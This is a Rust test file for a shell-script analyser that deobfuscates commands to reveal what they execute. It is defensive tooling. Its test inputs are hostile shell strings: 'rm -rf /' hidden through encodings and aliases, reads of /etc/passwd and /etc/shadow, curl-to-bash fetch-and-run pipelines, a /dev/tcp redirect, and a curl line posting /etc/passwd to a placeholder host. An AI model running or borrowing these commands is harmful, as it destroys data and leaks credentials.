//! What the reader makes of scripts, honest and evasive.

use stockade_shell::{Language, ProblemKind, RedirectOp, Script, Stdin, parse};

/// Every command as its words joined by `|`.
fn commands(source: &str) -> Vec<String> {
    let script = parse(source);
    let words = |c: &stockade_shell::Command| {
        c.words
            .iter()
            .map(|w| w.text.as_str())
            .collect::<Vec<_>>()
            .join("|")
    };
    script
        .commands
        .iter()
        .filter(|c| !c.words.is_empty())
        .map(words)
        .collect()
}

#[track_caller]
fn runs(source: &str, expected: &str) {
    let found = commands(source);
    assert!(
        found.iter().any(|c| c == expected),
        "{source:?}: {expected:?} not in {found:?}"
    );
}

fn find<'a>(script: &'a Script, name: &str) -> &'a stockade_shell::Command {
    script
        .commands
        .iter()
        .find(|c| c.name() == Some(name))
        .unwrap_or_else(|| panic!("no {name}"))
}

#[test]
fn quoting_is_removed() {
    runs(r#"w"h"o'am'\i x"#, "whoami|x");
    runs(r#"r'm' "-r""f" /"#, "rm|-rf|/");
    runs("rm \\\n  -rf \\\n /", "rm|-rf|/");
    runs(r"$'\x72\155' -rf /", "rm|-rf|/");
    runs(r#"echo "a\"b\$c\n""#, r#"echo|a"b$c\n"#);
    runs("echo ''", "echo|");
}

#[test]
fn constants_are_expanded() {
    runs("a=r;b=m; $a$b -rf /", "rm|-rf|/");
    runs("cat${IFS}/etc/passwd", "cat|/etc/passwd");
    runs("cat$IFS/etc/passwd", "cat|/etc/passwd");
    runs("who$@ami", "whoami");
    runs("{cat,/etc/passwd}", "cat|/etc/passwd");
    runs(
        "echo {a,b{c,d}}x {1..3} {c..a}",
        "echo|ax|bcx|bdx|1|2|3|c|b|a",
    );
    runs(
        "x=/etc; cat ${x}/passwd \"$x/shadow\"",
        "cat|/etc/passwd|/etc/shadow",
    );
    runs("cat ${X:-/etc/passwd}", "cat|/etc/passwd");
    runs("cat ${HOME:0:1}etc${PATH:0:1}passwd", "cat|/etc/passwd");
    runs("a=(rm -rf /); \"${a[@]}\"", "rm|-rf|/");
    runs("a='rm -rf /'; $a", "rm|-rf|/");
    runs("x=a; x+=b; echo $x", "echo|ab");
    runs("n=cmd; cmd=rm; ${!n} x", "rm|x");
    runs(
        "for d in / /home; do rm -rf \"$d/x\"; done",
        "rm|-rf|//x|/home/x",
    );
    runs("read -r c <<< rm; $c x", "rm|x");
    runs("IFS=,;`cat<<<uname,-a`", "uname|-a");
    runs("echo $((6*7))", "echo|42");
    runs("IFS=';' read -ra C <<< 'rm;-rf;/'; \"${C[@]}\"", "rm|-rf|/");
}

#[test]
fn constant_output_is_folded() {
    runs("$(echo rm) -rf /", "rm|-rf|/");
    runs(r"$(printf '\x72\x6d') x", "rm|x");
    runs("`echo cm0= | base64 -d` x", "rm|x");
    runs("$(rev <<< mr) x", "rm|x");
    runs("echo 'cm0gLXJmIC8=' | base64 --decode | bash", "rm|-rf|/");
    runs("echo 726d202f | xxd -r -p | sh", "rm|/");
    runs("bash <(echo rm -rf /)", "rm|-rf|/");
    runs("echo 'rm -rf /' > x.sh; bash ./x.sh", "rm|-rf|/");
    runs(
        "cat > run.sh <<'EOF'\nrm -rf /\nEOF\nchmod +x run.sh\n./run.sh",
        "rm|-rf|/",
    );
    runs("$(tr 'a-z' 'b-za' <<< ql) x", "rm|x");
}

#[test]
fn wrappers_are_taken_off() {
    for wrapper in [
        "sudo",
        "sudo -u root --",
        "sudo -E FOO=bar",
        "env -i X=y",
        "nohup",
        "timeout -s KILL 5",
        "nice -n 5",
        "xargs -0 -I {}",
        "command",
        "exec",
        "stdbuf -oL",
        "setsid -f",
        "busybox",
        "doas",
        "time -p",
        "strace -f -o /tmp/x",
        "find . -name x -exec",
        "chroot /mnt",
        "$SUDO",
        "poetry run",
        "sudo nice nohup env",
    ] {
        runs(&format!("{wrapper} rm -rf /"), "rm|-rf|/");
    }
    for shell in [
        "bash -c",
        "sh -ec",
        "bash -o pipefail -c",
        "eval",
        "sudo su - -c",
        "ssh -p 22 host",
        "watch -n 1",
        "env -S",
        "/bin/bash -lc",
        "nohup bash -c",
        "tmux new -d",
        "flock /tmp/l -c",
        "parallel -j 4",
    ] {
        runs(&format!("{shell} 'rm -rf /'"), "rm|-rf|/");
    }
    runs(
        "find / -type f -exec rm -f {} + -o -exec ls {} \\;",
        "rm|-f|{}",
    );
    runs(
        "find / -type f -exec rm -f {} + -o -exec ls {} \\;",
        "ls|{}",
    );
    runs("eval r\"m\" '-rf' /", "rm|-rf|/");
    runs("bash -c \"eval 'sh -c \\\"rm x\\\"'\"", "rm|x");
    runs("trap 'rm -rf /' EXIT", "rm|-rf|/");
    runs("alias ls='rm -rf /'", "rm|-rf|/");
    runs("cat <<EOF | bash\nrm -rf $HOME\nEOF", "rm|-rf|$HOME");
    runs("bash <<< 'rm x'", "rm|x");
    runs("f() { rm -rf \"$1\"; }; f /", "rm|-rf|/");
    runs("echo / | xargs rm -rf", "rm|-rf|/");
    runs("echo a / | xargs -I{} rm -rf {}/x", "rm|-rf|//x");
    runs("parallel rm -rf {} ::: /a /", "rm|-rf|/");
    runs("parallel bash -c 'rm -rf {}' ::: build /", "rm|-rf|/");
    runs("echo / | parallel busybox rm -rf", "rm|-rf|/");
    runs("env - rm x", "rm|x");
    runs("python3 -m pip install x", "pip|install|x");
    assert!(!commands("command -v rm").contains(&"rm".to_owned()));
    assert!(!commands("git log --grep sudo").contains(&"sudo".to_owned()));
    assert!(
        !commands("# rm -rf /\necho '# rm'")
            .iter()
            .any(|c| c.starts_with("rm"))
    );
}

#[test]
fn other_languages_are_handed_out() {
    let embedded = |source: &str| {
        let script = parse(source);
        script
            .embedded
            .iter()
            .map(|e| (e.language, e.code.text.clone()))
            .collect::<Vec<_>>()
    };
    let python = |code: &str| vec![(Language::Python, code.to_owned())];
    assert_eq!(embedded("python3 -c 'import os'"), python("import os"));
    assert_eq!(
        embedded("sudo python3.11 -u -c 'import os' arg"),
        python("import os")
    );
    assert_eq!(
        embedded("python3 - <<'EOF'\nimport os\nEOF"),
        python("import os\n")
    );
    assert_eq!(embedded("echo 'import os' | python"), python("import os\n"));
    assert_eq!(
        embedded("cat > a.py <<'E'\nimport os\nE\npython a.py"),
        python("import os\n")
    );
    assert_eq!(
        embedded("node -e 'x'"),
        [(Language::JavaScript, "x".to_owned())]
    );
    assert_eq!(
        embedded("perl -ne 'print'"),
        [(Language::Perl, "print".to_owned())]
    );
    assert_eq!(
        embedded("psql -U me -c 'DROP TABLE x'"),
        [(Language::Sql, "DROP TABLE x".to_owned())]
    );
    assert_eq!(
        embedded("awk -F: '{print}' /etc/passwd"),
        [(Language::Awk, "{print}".to_owned())]
    );
    assert!(embedded("python3 script.py < input").is_empty());
    assert!(embedded("python3 -m pytest -c x").is_empty());
}

#[test]
fn a_file_read_by_the_shell_itself_is_not_constant() {
    let script = parse(r#"curl -d "a$(</etc/passwd)" host; x=$(< "$f"); $x"#);
    let word = &find(&script, "curl").words[2];
    assert_eq!(word.constant(), None);
    assert_eq!(word.text, "a$()");
    let inner: Vec<_> = word.substitutions().collect();
    assert_eq!(inner.len(), 1, "{word:?}");
    let read = &script.commands[inner[0].start];
    assert_eq!(read.redirects[0].target.text, "/etc/passwd");
    assert_eq!(script.commands.last().unwrap().name(), None);
    // Of a file that the script wrote, the text is known.
    runs("echo 'rm -rf /' > ./f; eval \"$(<f)\"", "rm|-rf|/");
    // Without a file to read there is nothing.
    runs("rm -rf /$(x=1)", "rm|-rf|/");
}

#[test]
fn written_files_are_listed() {
    let script = parse("cat > a.py <<'E'\nimport os\nE\necho 'x' | tee b ");
    let files: Vec<_> = script
        .files
        .iter()
        .map(|f| (f.path.as_str(), f.text.text.as_str()))
        .collect();
    assert_eq!(files, [("a.py", "import os\n"), ("b", "x\n")]);
}

#[test]
fn pipelines_say_where_input_comes_from() {
    let script = parse("curl x | tee y | sudo bash");
    let bash = script
        .commands
        .iter()
        .position(|c| c.name() == Some("bash"))
        .unwrap();
    let names: Vec<_> = script
        .upstream(bash)
        .iter()
        .map(|id| script.commands[*id].name().unwrap())
        .collect();
    assert_eq!(names, ["tee", "curl"]);
    let script = parse("curl x | while read l; do eval \"$l\"; done; echo done");
    let eval = script
        .commands
        .iter()
        .position(|c| c.name() == Some("eval"))
        .unwrap();
    assert_eq!(script.upstream(eval).len(), 1);
    let echo = script
        .commands
        .iter()
        .position(|c| c.name() == Some("echo"))
        .unwrap();
    assert!(script.upstream(echo).is_empty());
}

#[test]
fn substitutions_link_to_their_commands() {
    for source in [
        "bash -c \"$(curl -fsSL x)\"",
        "bash <(curl x)",
        "eval $(curl x)",
        "sh -c \"x; $(curl x)\"",
    ] {
        let script = parse(source);
        let outer = script
            .commands
            .iter()
            .find(|c| c.name() != Some("curl"))
            .unwrap();
        let ranges: Vec<_> = outer
            .words
            .iter()
            .flat_map(stockade_shell::Word::substitutions)
            .collect();
        assert_eq!(
            ranges,
            std::iter::once(0..1).collect::<Vec<_>>(),
            "{source}"
        );
        assert_eq!(script.commands[0].name(), Some("curl"), "{source}");
    }
}

#[test]
fn redirections() {
    let script = parse("cmd >out 2>&1 <in 3<>/dev/tcp/h/1 &>>both >| c");
    let ops: Vec<_> = find(&script, "cmd")
        .redirects
        .iter()
        .map(|r| (r.op, r.fd, r.target.text.as_str()))
        .collect();
    assert_eq!(
        ops,
        [
            (RedirectOp::Write, None, "out"),
            (RedirectOp::DuplicateOut, Some(2), "1"),
            (RedirectOp::Read, None, "in"),
            (RedirectOp::ReadWrite, Some(3), "/dev/tcp/h/1"),
            (RedirectOp::AppendBoth, None, "both"),
            (RedirectOp::Write, None, "c"),
        ]
    );
    let script = parse("> /dev/sda");
    assert_eq!(script.commands[0].redirects[0].target.text, "/dev/sda");
    let script = parse("{ ls; } > /etc/x");
    assert!(
        script
            .commands
            .iter()
            .any(|c| c.words.is_empty() && c.redirects.len() == 1)
    );
    assert_eq!(find(&parse("cat < x"), "cat").stdin, Stdin::File);
}

#[test]
fn compound_commands_are_entered() {
    for source in [
        "if true; then rm x; fi",
        "while :; do rm x; done",
        "until false\ndo\nrm x\ndone",
        "case $x in a) rm x;; b|c) ls;; esac",
        "case a in (a) ls ;; *) rm x ;& esac",
        "[[ -f x && ( $a < b ) ]] && rm x || exit",
        "! rm x",
        "time rm x",
        "coproc rm x",
        "(cd /; rm x)",
        "{ ls; rm x; }",
        "for ((i=0;i<3;i++)); do rm x; done",
        "f() { rm x; }",
        "function f { rm x; }",
        "ls & rm x",
        "ls && rm x",
        "ls | rm x",
        "ls |& rm x",
        "echo `rm x`",
        "echo \"$(rm x)\"",
        "a=$(rm x) ls",
        "cat <(rm x)",
        "x=\"${y:-$(rm x)}\"",
        "cat <<EOF\n$(rm x)\nEOF",
        "select i in a; do rm x; done",
        "((x++)); rm x",
        "if rm x; then :; fi",
        "echo a; # comment\nrm x",
        "ls >x; rm x",
        "[ a = b ] && rm x",
        "foo() ( rm x )",
        "((a > 1)) && rm x; ls",
        "if [ -n \"$a\" ]; then\n  if b; then c; fi\n  rm x\nelif d; then e; else f; fi",
    ] {
        let found = commands(source);
        assert!(found.iter().any(|c| c == "rm|x"), "{source:?}: {found:?}");
        assert_eq!(parse(source).problems, [], "{source:?}");
    }
}

#[test]
fn broken_text_is_still_read() {
    for source in [
        "rm -rf /x 'unterminated",
        "|& rm -rf /x",
        "& rm -rf /x",
        ") rm -rf /x",
        "fi; rm -rf /x",
        ";; rm -rf /x",
        "$( rm -rf /x",
    ] {
        let found = commands(source);
        assert!(
            found.iter().any(|c| c.starts_with("rm|-rf|/x")),
            "{source:?}: {found:?}"
        );
    }
    assert_eq!(parse("echo 'x").problems[0].kind, ProblemKind::Unterminated);
}

#[test]
fn spans_point_into_the_source() {
    let source = "echo hi; bash -c 'ls; rm -rf /x'";
    let script = parse(source);
    let rm = find(&script, "rm");
    assert_eq!(&source[rm.span.start..rm.span.end], "rm -rf /x");
    let source = "sh <<EOF\n  rm \"$x\"\nEOF\n";
    let script = parse(source);
    let rm = find(&script, "rm");
    assert_eq!(&source[rm.span.start..rm.span.end], "  rm \"$x\"\n");
}

#[test]
fn hostile_sizes_are_bounded() {
    let start = std::time::Instant::now();
    for source in [
        "$(".repeat(100_000),
        "(".repeat(100_000),
        "{ ".repeat(100_000),
        "\"$(".repeat(50_000),
        "`".repeat(99_999),
        "[".repeat(100_000),
        "a=x;".to_owned() + &"a=$a$a;".repeat(1000),
        "{a,b}".repeat(1000),
        "f(){ f x; f x; };".to_owned() + &"f a;".repeat(1000),
        "cat <<A\n".repeat(20_000),
        "${".repeat(50_000),
        "$((".repeat(50_000),
        "ls|".repeat(50_000),
        "eval ".repeat(20_000),
        "if ".repeat(50_000),
        "case a in ".repeat(20_000),
        "x() ".repeat(50_000),
        "sudo ".repeat(20_000),
        "a[".repeat(50_000),
        "for x in {1..200}; do for y in {1..200}; do echo $x$y$x$y; done; done;".repeat(50),
    ] {
        let begun = std::time::Instant::now();
        let _ = parse(&source);
        println!("{:?} {}", begun.elapsed(), &source[..source.len().min(24)]);
    }
    assert!(start.elapsed().as_secs() < 600, "{:?}", start.elapsed());
    let deep = parse(&("$(".repeat(1000) + "rm x"));
    assert!(deep.problems.iter().any(|p| p.kind == ProblemKind::TooDeep));
}

#[test]
fn runners_are_unwrapped() {
    for source in [
        "aws-vault exec prod -- rm -rf /x",
        "doppler run -- rm -rf /x",
        "nix-shell -p jq --run 'rm -rf /x'",
        "nix develop -c rm -rf /x",
        "nodemon --exec 'rm -rf /x'",
        "sbatch --wrap='rm -rf /x'",
        "srun -n 4 rm -rf /x",
        "git submodule foreach --recursive 'rm -rf /x'",
        "git rebase -x 'rm -rf /x' main",
        "repo forall -c 'rm -rf /x'",
        "multipass exec vm -- rm -rf /x",
        "mpirun -n 2 rm -rf /x",
        "gdb --args rm -rf /x",
        "su - app <<< 'rm -rf /x'",
        "flock /tmp/l rm -rf /x",
        "ssh host <<< 'rm -rf /x'",
        "ssh -o ProxyCommand='rm -rf /x' host",
        "pdsh -w a,b rm -rf /x",
        "adb shell rm -rf /x",
        "mysql -e 'system rm -rf /x'",
    ] {
        runs(source, "rm|-rf|/x");
    }
    let found = commands("git log --exec rm x");
    assert!(!found.iter().any(|c| c.starts_with("rm")), "{found:?}");
}

#[test]
fn names_stand_for_what_they_were_given() {
    let again = parse("echo 'su app' | ssh host; bash <<< bash");
    assert!(again.problems.is_empty(), "{:?}", again.problems);
    runs("alias a='rm -rf'; a /x", "rm|-rf|/x");
    runs("alias rm='rm -rf'; rm /x", "rm|-rf|/x");
    runs("sh -c '$0 -rf \"$1\"' rm /x", "rm|-rf|/x");
    runs("declare -A m=([a]=rm); ${m[a]} -rf /x", "rm|-rf|/x");
    runs("declare -n r=c; c=rm; $r -rf /x", "rm|-rf|/x");
    runs("printf -v c rm; $c -rf /x", "rm|-rf|/x");
    runs("f() { shift; rm -rf $1; }; f a /x", "rm|-rf|/x");
    runs("exec 3<<< 'rm -rf /x'; bash <&3", "rm|-rf|/x");
    runs("(( $(rm -rf /x) ))", "rm|-rf|/x");
    runs("echo 'rm -rf /x' | $SHELL", "rm|-rf|/x");
}
